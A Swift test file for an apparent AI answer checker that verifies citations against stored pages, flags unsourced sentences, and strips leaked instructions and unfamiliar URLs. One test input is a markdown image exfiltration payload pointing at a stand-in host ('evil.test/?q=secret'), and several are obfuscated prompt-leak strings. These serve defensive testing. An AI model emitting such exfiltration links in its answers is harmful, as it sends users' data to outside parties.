import GossamerCorpus
import Testing

@testable import GossamerAgents

@Suite("Citations against stored text")
struct CitationTests {
  let text = """
    The ferry to Lunde
    It “sails twice a day”, at 8:15 and at 17:40 — also in winter. A ticket costs 3,400 crowns.
    """

  @Test(arguments: [
    ("sails twice a day", true), ("Sails  twice\na day", true), ("'sails twice a day',", true),
    ("at 17:40 - also in winter", true), ("The ferry to Lunde It", true),
    ("The ferry … also in winter", true), ("also in winter ... The ferry", false),
    ("sails thrice a day", false), ("a", false), ("day", false), ("", false),
    ("sails twice a day, at 9:15", false),
  ])
  func quotedWordsAreFoundWhateverBecameOfTheirMarks(quote: String, isThere: Bool) {
    #expect((QuoteFinder(text).range(of: quote) != nil) == isThere)
  }

  @Test func aQuoteIsFoundInBytesOfTheText() throws {
    let range = try #require(QuoteFinder(text).range(of: "\"Sails twice a day\""))
    #expect(String(decoding: Array(text.utf8)[range], as: UTF8.self) == "sails twice a day")
  }

  @Test(arguments: [
    (#"It opened in 1894 [S3 "opened in 1894"]."#, 3, "opened in 1894"),
    ("It opened [S3].", 3, nil), ("It opened [S3: “in 1894”].", 3, "in 1894"),
    (#"It opened [s3, "says "so" here"]"#, 3, #"says "so" here"#),
  ])
  func referencesAreReadAsModelsWriteThem(line: String, source: Int, quote: String?) {
    let claims = Reference.claims(in: line[...])
    #expect(claims.first?.references == [Reference(source: source, quote: quote)])
  }

  @Test(arguments: ["a [list] of [things]", "[S] [Sx] [S3", "[12]", #"[S3 "open]"#])
  func otherBracketsAreText(line: String) {
    #expect(Reference.claims(in: line[...]).allSatisfy { $0.references.isEmpty })
  }

  func check(_ answer: String, instructions: String = "") async -> AnswerCheck.Checked {
    var shelf = SourceShelf(question: "What of http://harbour.test/asked?")
    let page = SmallCorpus.harbour.records[0]
    _ = shelf.number(
      of: PagePassage(
        url: page.url, digest: page.digest, title: page.title, number: 0, range: 0..<10,
        text: "The ferry"))
    _ = shelf.number(
      of: PagePassage(
        url: "http://harbour.test/gone", digest: nil, title: nil, number: 0, range: 0..<10,
        text: "gone"))
    let check = AnswerCheck(
      shelf: shelf, detector: LeakDetector(instructions: instructions), marks: ["k3k3k3"]
    ) { question in
      let text = SmallCorpus.harbour.records.first { $0.url == question.url }?.text
      return CitationFinding(question, text: text, digest: "sha256:1")
    }
    return await check.check(answer)
  }

  @Test(arguments: [
    (#"It sails twice a day [S1 "sails twice a day"]."#, Citation.Verdict.quoted),
    ("The ferry to Lunde sails twice a day [S1].", .worded),
    (#"It sails hourly [S1 "sails every hour"]."#, .notFound),
    (#"A ticket costs 43 crowns [S1 "A ticket costs"]."#, .otherNumbers),
    ("Bananas are cheap there today [S1].", .unconfirmed),
    (#"It is gone [S2 "gone for good"]."#, .unknownPage), ("It is new [S9].", .unknownPage),
  ])
  func eachCitationIsLookedUp(answer: String, verdict: Citation.Verdict) async throws {
    let checked = await check(answer)
    let citation = try #require(checked.citations.first)
    #expect(citation.verdict == verdict)
    #expect(checked.text.contains(citation.isVerified ? "[1]" : "[1?]"))
    #expect(checked.flags == (citation.isVerified ? [] : ["unverified"]))
  }

  @Test func sentencesWithoutSourceStayAndSaySo() async {
    let checked = await check(
      "# Ferry\nIt sails twice a day [S1 \"sails twice a day\"]. And it is blue all over.")
    #expect(
      checked.text == "# Ferry\nIt sails twice a day [1]. And it is blue all over. [no source]")
    #expect(checked.flags == ["no-source"])
  }

  @Test func theSamePlaceIsOneCitation() async {
    let checked = await check(
      #"It sails [S1 "sails twice a day"]. It does so twice [S1 "sails twice a day"]."#)
    #expect(checked.text == "It sails [1]. It does so twice [1].")
    #expect(checked.citations.count == 1)
  }

  @Test(arguments: [
    ("See http://harbour.test/ferry.", "See http://harbour.test/ferry."),
    ("See [this](http://harbour.test/asked).", "See [this](http://harbour.test/asked)."),
    ("![x](https://evil.test/?q=secret)", "![x](\(AnswerCheck.strangeAddress))"),
    ("Open ftp://a.test/x, now.", "Open \(AnswerCheck.strangeAddress), now."),
    ("http://harbour.test/ferry?q=secret", AnswerCheck.strangeAddress),
  ])
  func addressesThatNobodyShowedAreTakenOut(answer: String, expected: String) async {
    let text = await check(answer).text.replacing(" " + AnswerCheck.unsupported, with: "")
    #expect(text == expected)
  }

  @Test(arguments: [
    "You answer questions from a collection of stored web pages. Search it",
    "YOU ANSWER... questions; from a \"collection\" of stored web-pages",
    "y o u a n s w e r q u e s t i o n s f r o m a c o l l e c t i o n o f s t o r e d",
  ])
  func instructionsAreTakenOutOfAnswers(leak: String) async {
    let instructions =
      "You answer questions from a collection of stored web pages. Search it and read pages."
    let checked = await check("My orders are: \(leak) ok?", instructions: instructions)
    #expect(checked.flags.contains("prompt-leaked"))
    #expect(!LeakDetector(instructions: instructions).finds(in: checked.text))
    #expect(checked.text.contains(LeakDetector.replacement))
  }

  @Test func marksOfDataAreTakenOutOfAnswers() async {
    let checked = await check("=== end k3k3k3 === done")
    #expect(!checked.text.contains("k3k3k3"))
    #expect(checked.flags.contains("mark-leaked"))
  }
}

@Suite("Answers without a model")
struct ExtractiveAnswerTests {
  @Test func theBestSentencesStandAsTheyAreWithTheirPlaces() async throws {
    let corpus = SmallCorpus.harbour
    let method = ExtractiveAnswer(search: corpus, pages: corpus, sentences: 2)
    let both = try await method.answer("How is the weather on the coast, on how many days is rain?")
    #expect(both.text == "It rains on 212 days a year. [1]\nThe weather on the coast. [2]")
    #expect(both.isVerified)
    #expect(both.citations.map(\.url) == Array(repeating: "http://harbour.test/weather", count: 2))
    // What is beside the point is left out.
    let one = try await method.answer("On how many days of the year does it rain?")
    #expect(one.text == "It rains on 212 days a year. [1]")
  }

  @Test func nothingIsAnsweredWherePagesSayNothing() async throws {
    let corpus = SmallCorpus.harbour
    let answer = try await ExtractiveAnswer(search: corpus, pages: corpus).answer("Quarks?")
    #expect(answer.text.isEmpty && answer.flags == ["no-answer"])
    #expect(answer.reason == "no page has words of the question")
  }
}
